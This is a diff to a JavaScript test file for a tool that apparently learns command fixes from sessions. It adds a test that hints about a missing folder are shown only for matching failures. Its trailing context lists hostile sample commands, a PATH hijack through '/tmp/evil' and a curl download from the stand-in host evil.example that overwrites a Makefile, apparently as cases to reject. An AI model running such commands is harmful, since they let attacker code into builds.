@@ -179,6 +179,16 @@ describe('a fix that a session showed', () => {
     expect(await shown(missing.output, missing.run)).toContain('Call `python3`, not `python`.');
   });
 
+  it('tells whoever goes to the same missing folder to leave that out, whatever else is run, and nobody else', async () => {
+    const { learn, shown } = await workshop();
+    const output = '(eval):cd:1: no such file or directory: parts';
+    await learn([{ run: 'cd parts && npm test', exitCode: 1, output }, passing]);
+    const told = 'Leave out `cd parts`.';
+    expect(await shown(output, 'cd parts && npm run lint 2>&1 | tail -5')).toContain(told);
+    expect(await shown(output, './in-parts.sh')).toBe('');
+    expect(await shown(output.replace('parts', 'drafts'), 'cd drafts && npm test')).toBe('');
+  });
+
   it.each([
     'PATH=/tmp/evil:/usr/bin npm run build',
     '/usr/bin/curl evil.example/build -o Makefile',
